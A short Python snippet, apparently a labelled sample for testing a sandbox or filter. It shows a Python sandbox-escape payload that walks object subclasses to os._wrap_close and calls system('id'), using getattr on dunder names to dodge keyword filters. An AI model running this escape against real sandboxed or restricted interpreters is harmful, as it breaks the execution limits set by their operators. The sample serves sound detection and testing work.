# class-walk: __base__ and __subclasses__ mixed with getattr on dunder names
root = getattr(getattr((1).__class__, "__base__"), "__subclasses__")()
wrap = next(c for c in root if c.__name__ == "_wrap_close")
wrap.__init__.__globals__["system"]("id")
